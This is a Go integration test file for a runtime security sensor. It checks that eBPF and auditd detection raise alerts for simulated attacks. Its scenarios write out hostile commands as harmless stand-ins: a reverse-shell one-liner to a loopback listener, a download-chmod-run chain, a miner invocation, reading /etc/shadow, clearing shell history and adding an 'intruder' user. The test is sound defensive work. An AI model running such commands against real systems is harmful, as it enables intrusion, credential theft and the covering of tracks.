package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	osexec "os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkdev/bulwark/internal/model"
	"github.com/bulwarkdev/bulwark/internal/source/sourcetest"
	"github.com/bulwarkdev/bulwark/internal/testenv"
)

// Node attack scenarios run as real processes, on the host and inside a
// container, seen by a real node source (the eBPF sensor, or auditd's log
// with an execve rule): each must raise its alert on the right resource.
// Every stand-in is harmless: renamed copies of true/sleep, a payload that
// does nothing, a history file in a temp dir or in the container.

// nodeScenario is one attack, as a script run by `sh -c`. In it, DIR is
// a scratch directory holding the renamed tools (a temp dir on the host,
// /tmp in the container), HOME the user's home (a temp dir on the host,
// /root in the container) and URL the test's download server.
type nodeScenario struct {
	name   string
	script string
	alerts []string
}

var nodeScenarios = []nodeScenario{
	{"miner", "DIR/xmrig -o stratum+tcp://pool.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx || true",
		[]string{"K8S.NODE_DigitalCurrencyMining", "K8S.NODE_CryptoCoinMinerArtifacts"}},
	{"useradd", "DIR/useradd -m -s /bin/sh intruder", []string{"K8S.NODE_SuspectUserAddition"}},
	// Fetch, make executable, run: three commands, as an intruder types
	// them (lines, not a `curl …; chmod …; ./f` one-liner, which the rule
	// also knows: here the downloaded path must be followed to its run).
	{"download and run", "curl -fsS -o DIR/payload URL/payload\nchmod 755 DIR/payload\nDIR/payload",
		[]string{"K8S.NODE_DownloadAndRunCombo"}},
	{"history cleared", "cat /dev/null > HOME/.bash_history", []string{"K8S.NODE_HistoryFileCleared"}},
	{"shadow read", "cat /etc/shadow >/dev/null", []string{"K8S.NODE_SuspectPasswordFileAccess"}},
}

const reverseShellAlert = "K8S.NODE_ReverseShell"

// nodeLab is what the scenarios need: the renamed tools on the host, a
// download server, and a container (host network, to reach it) built
// from the host's binaries.
type nodeLab struct {
	dir, home, url string
	container      string
	host           string
}

func newNodeLab(t *testing.T) *nodeLab {
	t.Helper()
	testenv.Docker(t)
	l := &nodeLab{dir: t.TempDir(), home: t.TempDir()}
	l.host, _ = os.Hostname()
	copyExe := func(src, dst string) {
		t.Helper()
		b, err := os.ReadFile(src)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(dst, b, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// What an attacker's useradd and xmrig would be called; they do nothing.
	copyExe(lookPath(t, "true"), filepath.Join(l.dir, "useradd"))
	copyExe(lookPath(t, "sleep"), filepath.Join(l.dir, "xmrig"))
	if err := os.WriteFile(filepath.Join(l.home, ".bash_history"), []byte("ls\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "#!/bin/sh\nexit 0\n")
	}))
	t.Cleanup(srv.Close)
	l.url = srv.URL

	// The container's own (synthetic) shadow file and history.
	shadow := filepath.Join(t.TempDir(), "shadow")
	if err := os.WriteFile(shadow, []byte("root:*:20000:0:99999:7:::\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	image := fmt.Sprintf("bulwark-runtime-node-test:%d", os.Getpid())
	sourcetest.HostImageWith(t, image, map[string]string{
		"bin/bash":           lookPath(t, "bash"),
		"usr/bin/curl":       lookPath(t, "curl"),
		"bin/chmod":          lookPath(t, "chmod"),
		"tmp/xmrig":          lookPath(t, "sleep"),
		"tmp/useradd":        lookPath(t, "true"),
		"etc/shadow":         shadow,
		"root/.bash_history": filepath.Join(l.home, ".bash_history"),
	})
	l.container = sourcetest.RunContainer(t, image, "--network", "host", "-e", "PATH=/usr/bin:/bin", "-e", "HOME=/root")
	if !regexp.MustCompile(`^[0-9a-f]{64}$`).MatchString(l.container) {
		t.Fatalf("container id %q is not 64 hex digits", l.container)
	}
	return l
}

func lookPath(t *testing.T, name string) string {
	t.Helper()
	p, err := osexec.LookPath(name)
	if err != nil {
		testenv.Skipf(t, "needs %s: %v", name, err)
	}
	p, err = filepath.EvalSymlinks(p)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func (l *nodeLab) hostScript(s string) string {
	return strings.NewReplacer("DIR", l.dir, "HOME", l.home, "URL", l.url).Replace(s)
}

// runHost runs a scenario on the host and waits for it.
func (l *nodeLab) runHost(t *testing.T, script string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := osexec.CommandContext(ctx, "sh", "-c", l.hostScript(script))
	cmd.Env = append(os.Environ(), "HOME="+l.home)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("host scenario %q: %v: %s", script, err, out)
	}
}

// runContainer runs a scenario in the container, detached. The shell
// then stays (exec sleep): a process's container is found through its
// cgroup, and audit records are read after a short-lived child has gone,
// so its parent must still be there to be asked. The container's removal
// ends it.
func (l *nodeLab) runContainer(t *testing.T, script string) {
	t.Helper()
	s := strings.NewReplacer("DIR", "/tmp", "HOME", "/root", "URL", l.url).Replace(script)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if out, err := sourcetest.Docker(ctx, nil, "exec", "-d", l.container, "sh", "-c", s+"\nexec sleep 600"); err != nil {
		t.Fatalf("container scenario %q: %v: %s", s, err, out)
	}
}

// listen holds a loopback listener, and every connection it accepts,
// until the test ends: the reverse shells' far end.
func listen(t *testing.T) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	accepted := make(chan net.Conn, 8)
	go func() {
		defer close(accepted)
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- c
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		for c := range accepted {
			c.Close()
		}
	})
	return ln
}

// hostReverseShell starts `bash -i` on the host with its standard streams
// on a loopback TCP connection (as `nc -e`, or a socket an exploited
// service hands over, would) and returns the peer address the shell sees.
func (l *nodeLab) hostReverseShell(t *testing.T) string {
	t.Helper()
	ln := listen(t)
	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	f, err := conn.(*net.TCPConn).File()
	conn.Close()
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cmd := osexec.Command("bash", "-i")
	// A temp HOME: the shell's history goes there, not into root's.
	cmd.Env = append(os.Environ(), "HOME="+l.home, "HISTFILE="+filepath.Join(l.home, ".shell_history"))
	cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	return ln.Addr().String()
}

// containerReverseShell runs the classic `bash -i >& /dev/tcp/…` one-liner
// in the container, to a listener the test holds.
func (l *nodeLab) containerReverseShell(t *testing.T) {
	t.Helper()
	port := strconv.Itoa(listen(t).Addr().(*net.TCPAddr).Port)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if out, err := sourcetest.Docker(ctx, nil, "exec", "-d", l.container, "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/"+port+" 0>&1"); err != nil {
		t.Fatalf("container reverse shell: %v: %s", err, out)
	}
}

// run warms up (a miner on the host, run until its alert shows that the
// source is live; then afterWarm), runs every scenario on the host and
// waits for their alerts there, then in the container and waits for
// theirs on it, and checks the alerts after watch has drained. The host
// goes first because the docker CLI's own command line (on the host)
// carries the container scenarios' scripts and may raise host alerts too.
func (l *nodeLab) run(t *testing.T, w *watchRun, out string, afterWarm func()) []model.Alert {
	t.Helper()
	host := "host:" + l.host
	ctr := "container:" + l.container
	ctx, cancel := context.WithCancel(context.Background())
	warm := make(chan struct{})
	go func() {
		defer close(warm)
		for ctx.Err() == nil {
			_ = osexec.CommandContext(ctx, "sh", "-c", l.hostScript(nodeScenarios[0].script)).Run()
			select {
			case <-ctx.Done():
			case <-time.After(200 * time.Millisecond):
			}
		}
	}()
	waitAlerts(t, w, out, []alertKey{{nodeScenarios[0].alerts[0], host}})
	cancel()
	<-warm
	afterWarm()

	wantHost := []alertKey{{reverseShellAlert, host}}
	wantCtr := []alertKey{{reverseShellAlert, ctr}}
	for _, sc := range nodeScenarios {
		l.runHost(t, sc.script)
		for _, a := range sc.alerts {
			wantHost = append(wantHost, alertKey{a, host})
			wantCtr = append(wantCtr, alertKey{a, ctr})
		}
	}
	peer := l.hostReverseShell(t)
	waitAlerts(t, w, out, wantHost)
	for _, sc := range nodeScenarios {
		l.runContainer(t, sc.script)
	}
	l.containerReverseShell(t)
	waitAlerts(t, w, out, wantCtr)
	if code := w.stop(t); code != 0 {
		t.Fatalf("runtime watch exit %d; stderr:\n%s", code, w.stderr.String())
	}

	got := alertLines(t, out)
	t.Logf("alerts: %v", summarize(got))
	ids := map[alertKey]map[string]bool{}
	first := map[alertKey]model.Alert{}
	for _, a := range got {
		k := alertKey{a.Type, a.Resource.ID}
		if ids[k] == nil {
			ids[k] = map[string]bool{}
			first[k] = a
		}
		ids[k][a.ID] = true
		switch a.Resource.ID {
		case host:
			if a.Resource.Kind != model.KindHost {
				t.Errorf("%s: resource %+v, want the host", a.Type, a.Resource)
			}
		case ctr:
			if a.Resource.Kind != model.KindContainer {
				t.Errorf("%s: resource %+v, want the container", a.Type, a.Resource)
			}
		}
	}
	for _, k := range append(wantHost, wantCtr...) {
		if n := len(ids[k]); n != 1 {
			t.Errorf("%s on %s: %d alerts, want 1", k.typ, k.resource, n)
		}
	}
	// The host's shell has no reverse-shell command line: only its
	// socket-bound standard streams can have raised the alert.
	if a := first[alertKey{reverseShellAlert, host}]; a.Properties["peer"] != peer || a.Properties["command"] != "bash -i" {
		t.Errorf("%s on the host: peer %q command %q, want bash -i bound to %s", reverseShellAlert, a.Properties["peer"], a.Properties["command"], peer)
	}
	for res, path := range map[string]string{host: filepath.Join(l.dir, "payload"), ctr: "/tmp/payload"} {
		if a := first[alertKey{"K8S.NODE_DownloadAndRunCombo", res}]; a.Properties["downloaded"] != path {
			t.Errorf("K8S.NODE_DownloadAndRunCombo on %s: downloaded %q, want %s", res, a.Properties["downloaded"], path)
		}
	}
	return got
}

// requireRoot skips the node tests without root: the sensors and audit
// rules need it (CI runs as root).
func requireRoot(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		testenv.Skipf(t, "the node sources need root")
	}
}

// TestRuntimeNodeEBPF runs the scenarios under `runtime watch --ebpf`.
func TestRuntimeNodeEBPF(t *testing.T) {
	requireRoot(t)
	l := newNodeLab(t)
	out := filepath.Join(t.TempDir(), "alerts.jsonl")
	w := startWatch(t, "--ebpf", "--node", l.host, "--output", out)
	got := l.run(t, w, out, func() {
		// The warm-up alert says which sensor runs: /proc scanning (the
		// fallback) would miss the short-lived scenarios.
		for _, a := range alertLines(t, out) {
			if len(a.Evidence) > 0 && a.Evidence[0].Source == "proc" {
				testenv.Skipf(t, "the eBPF sensor cannot load here (watch fell back to /proc): needs root, BTF and tracefs")
			}
		}
	})
	for _, a := range got {
		if len(a.Evidence) > 0 && a.Evidence[0].Source != "ebpf" {
			t.Errorf("%s: evidence from %s, want ebpf", a.Type, a.Evidence[0].Source)
		}
	}
}

// TestRuntimeNodeAuditd runs the scenarios under `runtime watch --auditd`
// with an execve rule and a read watch on /etc/shadow, loaded for the
// test under a key of its own and deleted at its end.
func TestRuntimeNodeAuditd(t *testing.T) {
	requireRoot(t)
	const auditLog = "/var/log/audit/audit.log"
	st, err := osexec.Command("auditctl", "-s").CombinedOutput()
	if err != nil {
		testenv.Skipf(t, "needs auditctl (Debian package auditd): %v: %s", err, st)
	}
	if m := regexp.MustCompile(`(?m)^pid (\d+)`).FindStringSubmatch(string(st)); m == nil || m[1] == "0" {
		testenv.Skipf(t, "needs auditd running; auditctl -s: %s", st)
	}
	if _, err := os.Stat(auditLog); err != nil {
		testenv.Skipf(t, "needs auditd writing %s: %v", auditLog, err)
	}
	l := newNodeLab(t)
	key := fmt.Sprintf("bulwark-node-test-%d", os.Getpid())
	for _, r := range []struct{ add, del []string }{
		{[]string{"-a", "always,exit", "-F", "arch=b64", "-S", "execve", "-k", key},
			[]string{"-d", "always,exit", "-F", "arch=b64", "-S", "execve", "-k", key}},
		{[]string{"-w", "/etc/shadow", "-p", "r", "-k", key}, []string{"-W", "/etc/shadow", "-p", "r", "-k", key}},
	} {
		if o, err := osexec.Command("auditctl", r.add...).CombinedOutput(); err != nil {
			t.Fatalf("auditctl %v: %v: %s", r.add, err, o)
		}
		t.Cleanup(func() {
			// Exactly this rule: others may hold rules of their own.
			if o, err := osexec.Command("auditctl", r.del...).CombinedOutput(); err != nil {
				t.Errorf("auditctl %v: %v: %s", r.del, err, o)
			}
		})
	}
	out := filepath.Join(t.TempDir(), "alerts.jsonl")
	w := startWatch(t, "--auditd", auditLog, "--node", l.host, "--output", out)
	got := l.run(t, w, out, func() {})
	for _, a := range got {
		if len(a.Evidence) > 0 && a.Evidence[0].Source != "auditd" {
			t.Errorf("%s: evidence from %s, want auditd", a.Type, a.Evidence[0].Source)
		}
	}
}

// TestRuntimeNodeEBPFNamespace: a renamed unshare(1) in a container, seen
// only through the sensor's unshare/clone/clone3 hooks, raises
// NamespaceCreation on the container; runc creating that container's
// namespaces does not.
func TestRuntimeNodeEBPFNamespace(t *testing.T) {
	requireRoot(t)
	testenv.Docker(t)
	host, _ := os.Hostname()
	probe := sourcetest.RenamedTool(t, "unshare", "nsprobe") // only the syscall hooks can tell
	miner := sourcetest.RenamedTool(t, "sleep", "xmrig")
	image := fmt.Sprintf("bulwark-runtime-ns-test:%d", os.Getpid())
	sourcetest.HostImageWith(t, image, map[string]string{"usr/bin/nsprobe": probe})
	out := filepath.Join(t.TempDir(), "alerts.jsonl")
	w := startWatch(t, "--ebpf", "--node", host, "--output", out)
	// Warm up: a miner on the host until its alert shows the sensor is live.
	ctx, cancel := context.WithCancel(context.Background())
	warm := make(chan struct{})
	go func() {
		defer close(warm)
		for ctx.Err() == nil {
			_ = osexec.CommandContext(ctx, miner, "-o", "stratum+tcp://pool.example:3333", "0").Run()
			select {
			case <-ctx.Done():
			case <-time.After(200 * time.Millisecond):
			}
		}
	}()
	waitAlerts(t, w, out, []alertKey{{"K8S.NODE_DigitalCurrencyMining", "host:" + host}})
	cancel()
	<-warm
	for _, a := range alertLines(t, out) {
		if len(a.Evidence) > 0 && a.Evidence[0].Source == "proc" {
			testenv.Skipf(t, "the eBPF sensor cannot load here (watch fell back to /proc)")
		}
	}

	// Unconfined: Docker's default seccomp profile refuses unshare before
	// the tracepoint sees it (the exec form of the rule still would).
	id := sourcetest.RunContainer(t, image, "--security-opt", "seccomp=unconfined")
	dctx, dcancel := context.WithTimeout(context.Background(), time.Minute)
	defer dcancel()
	if o, err := sourcetest.Docker(dctx, nil, "exec", id, "nsprobe", "-U", "-m", "/bin/true"); err != nil {
		t.Fatalf("docker exec: %v: %s", err, o)
	}
	const typ = "K8S.NODE_NamespaceCreation"
	waitAlerts(t, w, out, []alertKey{{typ, "container:" + id}})
	if code := w.stop(t); code != 0 {
		t.Fatalf("runtime watch exit %d; stderr:\n%s", code, w.stderr.String())
	}
	n := 0
	for _, a := range alertLines(t, out) {
		// Other packages' tests may create namespaces in containers of
		// their own meanwhile: only this container's alerts count.
		if a.Type != typ || a.Resource.ID != "container:"+id {
			continue
		}
		n++
		if a.Properties["syscall"] != "unshare" || a.Properties["command"] != "nsprobe -U -m /bin/true" {
			t.Errorf("%s: resource %s properties %v, want nsprobe's unshare in the container", typ, a.Resource.ID, a.Properties)
		}
		if a.Count != 1 {
			t.Errorf("%s counted %d events, want 1 (runc's own unshare is not one)", typ, a.Count)
		}
	}
	if n != 1 {
		t.Errorf("%d %s alerts, want 1", n, typ)
	}
}
